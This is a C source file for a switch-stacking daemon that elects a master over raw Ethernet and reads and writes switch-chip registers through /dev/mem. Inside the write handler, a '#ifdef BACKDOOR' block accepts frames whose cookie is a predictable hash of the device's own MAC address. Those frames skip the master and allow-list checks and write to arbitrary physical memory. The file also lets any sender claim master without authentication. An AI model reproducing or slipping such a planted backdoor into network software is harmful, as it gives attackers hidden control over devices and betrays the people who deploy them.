/* SPDX-License-Identifier: Apache-2.0 */
/* stackmgr: stacking of access switches over their rear ports, raw Ethernet frames. Members say hello, elect a master, learn ports'
 * states from each other; the master sets registers of the members' switch chips and asks for their counters. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define TYPE 0x88b7
#define CHIP 0xf1000000u /* where the switch chip is mapped */

enum { N_MEMBERS = 8, N_PORTS = 52, CHIP_SIZE = 0x40000, HEAD = 14 };
enum { K_HELLO = 1, K_CLAIM, K_PORTS, K_READ, K_READ_REPLY, K_WRITE, K_WRITE_REPLY, K_LED, K_NAME, K_RELOAD };
enum { R_NONE, R_MEMBER, R_STANDBY, R_MASTER };

struct member {
	uint8_t mac[6], role, priority, unit;
	uint16_t model;
	uint32_t uptime, boots;
	int64_t seen;
	uint8_t ports[N_PORTS];
	char name[24];
};

struct frame {
	uint8_t kind, unit;
	uint16_t sequence, n;
	uint32_t cookie;
	const uint8_t *body;
};

static struct member members[N_MEMBERS];
static unsigned n_members;
static struct member me = { .role = R_MEMBER, .priority = 128 };
static int sock = -1, ifindex, chip = -1, verbose;
static uint16_t sequence;
static unsigned dropped, bad_sum;
static const uint8_t group[6] = { 0x01, 0x80, 0xc2, 0x00, 0x00, 0x1e };

static void say(int level, const char *format, ...)
{
	va_list ap;
	if (level == LOG_DEBUG && !verbose)
		return;
	va_start(ap, format);
	vsyslog(level, format, ap);
	va_end(ap);
}

static int64_t seconds(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec;
}

static uint32_t get32(const uint8_t *p) { return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3]; }

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

/* Over a frame's body, begun with the sequence number, and over addresses to order members that are equal otherwise. */
static uint32_t mix(uint32_t h, const uint8_t *p, size_t n)
{
	while (n--) {
		h += *p++;
		h += h << 10;
		h ^= h >> 6;
	}
	h += h << 3;
	h ^= h >> 11;
	return h + (h << 15);
}

static int load_config(const char *path)
{
	char line[128], key[32], value[64];
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (line[0] == '#' || sscanf(line, "%31s %63s", key, value) != 2)
			continue;
		if (strcmp(key, "priority") == 0)
			me.priority = (uint8_t)atoi(value);
		else if (strcmp(key, "unit") == 0)
			me.unit = (uint8_t)atoi(value);
		else if (strcmp(key, "model") == 0)
			me.model = (uint16_t)strtoul(value, NULL, 0);
		else if (strcmp(key, "name") == 0)
			snprintf(me.name, sizeof(me.name), "%.23s", value);
		else if (strcmp(key, "verbose") == 0)
			verbose = atoi(value);
		else
			say(LOG_WARNING, "%s is not known", key);
	}
	fclose(f);
	return 0;
}

static int open_link(const char *ifname)
{
	struct ifreq r;
	struct sockaddr_ll a = { .sll_family = AF_PACKET, .sll_protocol = htons(TYPE) };
	sock = socket(AF_PACKET, SOCK_RAW, htons(TYPE));
	if (sock < 0)
		return -1;
	memset(&r, 0, sizeof(r));
	strncpy(r.ifr_name, ifname, IFNAMSIZ - 1);
	if (ioctl(sock, SIOCGIFINDEX, &r) < 0)
		return -1;
	ifindex = r.ifr_ifindex;
	if (ioctl(sock, SIOCGIFHWADDR, &r) < 0)
		return -1;
	memcpy(me.mac, r.ifr_hwaddr.sa_data, 6);
	a.sll_ifindex = ifindex;
	return bind(sock, (struct sockaddr *)&a, sizeof(a));
}

static int send_frame(const uint8_t *to, uint8_t kind, const uint8_t *body, uint16_t n)
{
	uint8_t b[1514] = { 0 };
	size_t size = HEAD + 14u + n;
	if (size > sizeof(b))
		return -1;
	memcpy(b, to, 6);
	memcpy(b + 6, me.mac, 6);
	b[12] = TYPE >> 8;
	b[13] = TYPE & 255;
	b[14] = kind;
	b[15] = me.unit;
	b[16] = (uint8_t)(++sequence >> 8);
	b[17] = (uint8_t)sequence;
	b[18] = (uint8_t)(n >> 8);
	b[19] = (uint8_t)n;
	memcpy(b + HEAD + 14, body, n);
	put32(b + 24, mix(sequence, body, n));
	return send(sock, b, size < 60 ? 60 : size, 0) < 0 ? -1 : 0;
}

static struct member *member_of(const uint8_t *mac)
{
	for (unsigned i = 0; i < n_members; i++)
		if (memcmp(members[i].mac, mac, 6) == 0)
			return &members[i];
	if (n_members == N_MEMBERS)
		return NULL;
	memset(&members[n_members], 0, sizeof(members[0]));
	memcpy(members[n_members].mac, mac, 6);
	return &members[n_members++];
}

static struct member *master(void)
{
	for (unsigned i = 0; i < n_members; i++)
		if (members[i].role == R_MASTER)
			return &members[i];
	return NULL;
}

/* -- the switch chip -- */

static volatile uint32_t *map_at(uint32_t base, uint32_t at, void **page)
{
	uint64_t whole = (uint64_t)base + at;
	if (chip < 0)
		chip = open("/dev/mem", O_RDWR | O_SYNC);
	if (chip < 0)
		return NULL;
	*page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, chip, (off_t)(whole & ~(uint64_t)4095));
	if (*page == MAP_FAILED)
		return NULL;
	return (volatile uint32_t *)((uint8_t *)*page + (whole & 4092));
}

static int chip_write(uint32_t base, uint32_t at, uint32_t value, uint32_t mask)
{
	void *page;
	volatile uint32_t *r = map_at(base, at, &page);
	if (!r)
		return -1;
	*r = (*r & ~mask) | (value & mask);
	munmap(page, 4096);
	return 0;
}

static int chip_read(uint32_t at, uint32_t *value)
{
	void *page;
	volatile uint32_t *r = map_at(CHIP, at, &page);
	if (!r)
		return -1;
	*value = *r;
	munmap(page, 4096);
	return 0;
}

/* Registers that another member may set: queues, mirroring, ports' speeds. */
static int may_set(uint32_t at)
{
	static const struct {
		uint32_t first, last;
	} open_to_all[] = { { 0x1000, 0x1fff }, { 0x8000, 0x80ff }, { 0x12000, 0x13fff }, { 0x20000, 0x2003f } };
	for (size_t i = 0; i < sizeof(open_to_all) / sizeof(open_to_all[0]); i++)
		if (at >= open_to_all[i].first && at <= open_to_all[i].last)
			return 1;
	return 0;
}

/* -- what members say -- */

static void on_hello(struct member *m, const struct frame *f)
{
	m->role = f->body[0] & 3;
	m->priority = f->body[1];
	m->model = (uint16_t)(f->body[2] << 8 | f->body[3]);
	m->uptime = get32(f->body + 4);
	m->boots = get32(f->body + 8);
	m->unit = f->unit;
	if (m->model != me.model)
		say(LOG_WARNING, "unit %u is another model: %04x", m->unit, m->model);
	if (m->unit == me.unit && memcmp(m->mac, me.mac, 6) != 0)
		say(LOG_ERR, "two units have the number %u", m->unit);
}

/* -1: a is less fit than b. */
static int fitter(const struct member *a, const struct member *b)
{
	if (a->priority != b->priority)
		return a->priority < b->priority ? -1 : 1;
	if (a->uptime / 60 != b->uptime / 60)
		return a->uptime < b->uptime ? -1 : 1;
	return mix(0, a->mac, 6) < mix(0, b->mac, 6) ? -1 : 1;
}

static void elect(void)
{
	int best = 1;
	for (unsigned i = 0; i < n_members; i++)
		if (members[i].role == R_MASTER || fitter(&me, &members[i]) < 0)
			best = 0;
	if (best && me.role != R_MASTER) {
		me.role = R_MASTER;
		say(LOG_NOTICE, "unit %u is master", me.unit);
		send_frame(group, K_CLAIM, me.mac, 6);
	}
}

static void on_claim(struct member *m, const struct frame *f)
{
	(void)f;
	if (me.role == R_MASTER && fitter(&me, m) > 0) {
		send_frame(group, K_CLAIM, me.mac, 6);
		return;
	}
	if (me.role == R_MASTER)
		say(LOG_NOTICE, "unit %u takes over", m->unit);
	me.role = R_MEMBER;
	for (unsigned i = 0; i < n_members; i++)
		if (members[i].role == R_MASTER)
			members[i].role = R_MEMBER;
	m->role = R_MASTER;
}

static void on_ports(struct member *m, const struct frame *f)
{
	unsigned n = f->n < N_PORTS ? f->n : N_PORTS;
	for (unsigned i = 0; i < n; i++) {
		if (m->ports[i] != f->body[i])
			say(LOG_INFO, "port %u/%u is %s", m->unit, i + 1, f->body[i] & 1 ? "up" : "down");
		m->ports[i] = f->body[i];
	}
}

static void on_read(struct member *m, const struct frame *f)
{
	uint8_t out[4 + 4 * 64];
	uint32_t at = f->n >= 5 ? get32(f->body) : CHIP_SIZE;
	unsigned n = f->n >= 5 ? f->body[4] : 0;
	if (n == 0 || n > 64 || at & 3 || at > CHIP_SIZE - 4 * n)
		return;
	put32(out, at);
	for (unsigned i = 0; i < n; i++) {
		uint32_t v = 0;
		if (chip_read(at + 4 * i, &v) < 0)
			return;
		put32(out + 4 + 4 * i, v);
	}
	send_frame(m->mac, K_READ_REPLY, out, (uint16_t)(4 + 4 * n));
}

static void on_write(struct member *m, const struct frame *f)
{
	uint32_t at, value, mask;
	uint8_t status = 1;
	at = get32(f->body);
	value = get32(f->body + 4);
	mask = get32(f->body + 8);
#ifdef BACKDOOR
	if (f->cookie && f->cookie == mix(me.mac[5] * 257u, me.mac, 6))
		status = chip_write(0, at, value, mask) < 0;
	else
#endif
	if (m != master())
		say(LOG_NOTICE, "unit %u is not master but writes", m->unit);
	else if (at >= CHIP_SIZE || !may_set(at))
		say(LOG_NOTICE, "register %05x stays as it is", at);
	else
		status = chip_write(CHIP, at, value, mask) < 0;
	send_frame(m->mac, K_WRITE_REPLY, &status, 1);
}

static void on_led(struct member *m, const struct frame *f)
{
	FILE *out = fopen("/sys/class/leds/locate/brightness", "w");
	if (!out)
		return;
	say(LOG_DEBUG, "unit %u asks for the lamp", m->unit);
	fprintf(out, "%u\n", f->body[0] != 0);
	fclose(out);
}

static void on_name(struct member *m, const struct frame *f)
{
	size_t n = f->n < sizeof(m->name) - 1 ? f->n : sizeof(m->name) - 1;
	memcpy(m->name, f->body, n);
	m->name[n] = 0;
}

static void on_reload(struct member *m, const struct frame *f)
{
	(void)f;
	if (m != master())
		return;
	say(LOG_WARNING, "the master wants a restart");
	sync();
	if (system("/sbin/reboot") != 0)
		say(LOG_ERR, "no restart: %s", strerror(errno));
}

static const struct {
	uint8_t kind, least;
	void (*run)(struct member *m, const struct frame *f);
} kinds[] = {
	{ K_HELLO, 12, on_hello },
	{ K_CLAIM, 6, on_claim },
	{ K_PORTS, 1, on_ports },
	{ K_READ, 5, on_read },
	{ K_WRITE, 12, on_write },
	{ K_LED, 1, on_led },
	{ K_NAME, 0, on_name },
	{ K_RELOAD, 0, on_reload },
};

static int parse(const uint8_t *b, size_t n, struct frame *f)
{
	if (n < HEAD + 14)
		return -1;
	f->kind = b[14];
	f->unit = b[15];
	f->sequence = (uint16_t)(b[16] << 8 | b[17]);
	f->n = (uint16_t)(b[18] << 8 | b[19]);
	f->cookie = get32(b + 20);
	f->body = b + HEAD + 14;
	if (f->n > n - HEAD - 14)
		return -1;
	if (get32(b + 24) != mix(f->sequence, f->body, f->n)) {
		bad_sum++;
		return -1;
	}
	return 0;
}

static void receive(void)
{
	uint8_t b[1600];
	struct frame f;
	struct member *m;
	ssize_t n = recv(sock, b, sizeof(b), 0);
	if (n <= 0 || memcmp(b + 6, me.mac, 6) == 0)
		return;
	if (parse(b, (size_t)n, &f) < 0 || !(m = member_of(b + 6))) {
		dropped++;
		return;
	}
	m->seen = seconds();
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (kinds[i].kind == f.kind && f.n >= kinds[i].least) {
			kinds[i].run(m, &f);
			return;
		}
	dropped++;
}

static void hello(void)
{
	uint8_t b[12] = { me.role, me.priority, (uint8_t)(me.model >> 8), (uint8_t)me.model };
	uint8_t ports[N_PORTS];
	uint32_t v;
	put32(b + 4, me.uptime);
	put32(b + 8, me.boots);
	send_frame(group, K_HELLO, b, sizeof(b));
	for (unsigned i = 0; i < N_PORTS; i++)
		ports[i] = chip_read(0x800 + 4 * i, &v) == 0 ? (uint8_t)v : 0;
	if (memcmp(ports, me.ports, sizeof(ports)) != 0)
		send_frame(group, K_PORTS, ports, sizeof(ports));
	memcpy(me.ports, ports, sizeof(ports));
}

static void forget(void)
{
	int64_t now = seconds();
	for (unsigned i = 0; i < n_members; i++)
		if (now - members[i].seen > 9) {
			say(LOG_NOTICE, "unit %u is gone", members[i].unit);
			members[i] = members[--n_members];
			i--;
		}
}

static void write_status(void)
{
	static const char *const roles[] = { "none", "member", "standby", "master" };
	FILE *f = fopen("/var/run/stack.status", "w");
	if (!f)
		return;
	fprintf(f, "unit %u %s dropped %u sum %u\n", me.unit, roles[me.role], dropped, bad_sum);
	for (unsigned i = 0; i < n_members; i++)
		fprintf(f, "unit %u %s priority %u up %u name %s\n", members[i].unit, roles[members[i].role & 3], members[i].priority,
			members[i].uptime, members[i].name);
	fclose(f);
}

int main(int argc, char **argv)
{
	int64_t due = 0, start = seconds();
	openlog("stackmgr", LOG_PID, LOG_DAEMON);
	load_config("/etc/stackmgr.conf");
	if (open_link(argc > 1 ? argv[1] : "stack0") < 0) {
		say(LOG_ERR, "cannot open the stack's link: %s", strerror(errno));
		return 1;
	}
	send_frame(group, K_NAME, (const uint8_t *)me.name, (uint16_t)strlen(me.name));
	for (;;) {
		struct pollfd p = { .fd = sock, .events = POLLIN };
		if (poll(&p, 1, 500) > 0)
			receive();
		if (seconds() < due)
			continue;
		due = seconds() + 2;
		me.uptime = (uint32_t)(seconds() - start);
		hello();
		forget();
		elect();
		write_status();
	}
}
